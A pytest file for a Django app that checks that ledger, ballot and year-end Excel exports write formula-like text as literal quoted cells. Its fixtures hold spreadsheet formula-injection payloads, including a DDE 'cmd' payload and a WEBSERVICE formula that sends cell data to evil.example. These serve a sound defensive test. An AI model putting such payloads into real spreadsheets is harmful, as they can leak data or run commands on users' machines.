"""Formula injection: text that a spreadsheet could take for a formula (= + - @, tab, CR first) comes back as a
literal text cell in every workbook the app writes — the ledger import template, the ledger export, the paper
ballot template and the year-end workbook. All of them go through the one guard, kaohe.xlsx.text_guard."""

import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from ballots import paper as ballot_services_paper
from ballots import selectors as ballot_services_selectors
from ballots import services as ballot_services
from departments.models import Department
from kaohe.xlsx import FORMULA_STARTS, append_guarded, text_guard
from reports.xlsx import build_xlsx
from reviews.ledger_xlsx import ledger_export, ledger_template
from reviews.models import LedgerRecord
from scoring.models import Rule, RuleCategory

# One hostile text per dangerous first character.
DEPARTMENT_NAMES = [
    '=HYPERLINK("http://evil.example","办公室")',
    "+1+cmd|' /C calc'!A0",
    "-2+SUM(A1:A9)",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
]
RULE_TEXT = '=WEBSERVICE("http://evil.example/"&A1)'
CATEGORY_NAME = "@类别"
REASON = "-理由=1+1"
DESCRIPTION = "+说明"


def _read_back(text: str) -> str:
    # openpyxl reads a carriage return in a shared string back as a line feed (XML line-end normalisation).
    return text.replace("\r", "\n")


@pytest.fixture
def hostile(demo_year):
    """Departments, a rule, its category and one record's texts renamed to formula-like text."""
    record = (
        LedgerRecord.objects.filter(year=demo_year, status=LedgerRecord.Status.CONFIRMED).order_by("date", "id").first()
    )
    department = record.record_departments.first().department
    others = [d for d in ballot_services_selectors.ballot_departments(year=demo_year) if d.pk != department.pk]
    renamed = [department, *others[: len(DEPARTMENT_NAMES) - 1]]
    for dept, name in zip(renamed, DEPARTMENT_NAMES, strict=True):
        Department.objects.filter(pk=dept.pk).update(name=name)
    Rule.objects.filter(pk=record.rule_id).update(text=RULE_TEXT)
    RuleCategory.objects.filter(pk=record.rule.category_id).update(name=CATEGORY_NAME)
    LedgerRecord.objects.filter(pk=record.pk).update(reason=REASON, description=DESCRIPTION)
    return {"record": record, "department": DEPARTMENT_NAMES[0]}


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _assert_literal(data: bytes, expected: list[str]) -> None:
    """Each expected text is in the workbook, every cell holding it is a text cell with a quote prefix, and
    the workbook holds no formula at all."""
    cells = _cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    for text in expected:
        holding = [c for c in cells if c.value == _read_back(text)]
        assert holding, f"{text!r} not written"
        assert {(c.data_type, c.quotePrefix) for c in holding} == {("s", True)}, text


def test_text_guard_makes_formula_like_text_literal():
    book = Workbook()
    sheet = book.active
    append_guarded(sheet, ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "普通", "a=1", -3, None])

    row = sheet[1]
    assert [c.data_type for c in row] == ["s", "s", "s", "s", "s", "s", "s", "s", "n", "n"]
    assert [bool(c.quotePrefix) for c in row] == [True] * 6 + [False] * 4
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert text_guard(sheet["G1"]).value == "普通"


def test_ledger_template_writes_rule_and_category_names_as_text(demo_year, hostile):
    _assert_literal(ledger_template(demo_year), [RULE_TEXT, CATEGORY_NAME])


def test_ledger_export_writes_department_names_and_texts_as_text(demo_year, hostile):
    records = (
        LedgerRecord.objects.filter(pk=hostile["record"].pk)
        .select_related("rule", "recorded_by")
        .prefetch_related("record_departments__department")
    )
    record = records.get()
    assert [link.department.name for link in record.record_departments.all()] == [hostile["department"]]

    _assert_literal(ledger_export(records), [hostile["department"], REASON, DESCRIPTION])


@pytest.fixture
def round_(demo_year, hostile):
    """An open ballot round, the year in 民主测评 (the phase where ballots are taken)."""
    demo_year.phase = demo_year.Phase.DEMOCRATIC
    demo_year.save(update_fields=["phase"])
    return ballot_services.round_open(
        year=demo_year,
        title="2023年度民主测评",
        closes_at=timezone.now() + datetime.timedelta(days=7),
        groups=[ballot_services.GroupSpec("机关全体人员", 29, Decimal("1"), True)],
    )


def test_paper_ballot_template_writes_department_names_as_text(round_):
    _assert_literal(ballot_services_paper.paper_template_xlsx(round=round_), DEPARTMENT_NAMES)


def test_year_workbook_writes_names_rules_and_texts_as_text(demo_year, hostile):
    stream = io.BytesIO()
    build_xlsx(demo_year, stream)

    # (the year workbook names categories by code, so the category name is not in it)
    _assert_literal(stream.getvalue(), [*DEPARTMENT_NAMES, RULE_TEXT, REASON, DESCRIPTION])


def test_paper_ballot_template_with_formula_like_name_imports_back(demo_year, round_):
    """The guarded header still names the department: a filled template imports."""
    # The import strips cell text, so names that start with white space (never entered through a form, which
    # strips too) would not match; only = + - @ names here.
    for i, name in enumerate(DEPARTMENT_NAMES[4:]):
        Department.objects.filter(name=name).update(name=f"部室{i}")
    book = load_workbook(io.BytesIO(ballot_services_paper.paper_template_xlsx(round=round_)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    column = header.index(DEPARTMENT_NAMES[0]) + 1
    grade = next(iter(demo_year.grade_points))
    sheet.cell(row=2, column=1, value="机关全体人员")
    sheet.cell(row=2, column=column, value=grade)
    out = io.BytesIO()
    book.save(out)

    assert ballot_services_paper.paper_ballots_import(round=round_, data=out.getvalue()) == 1
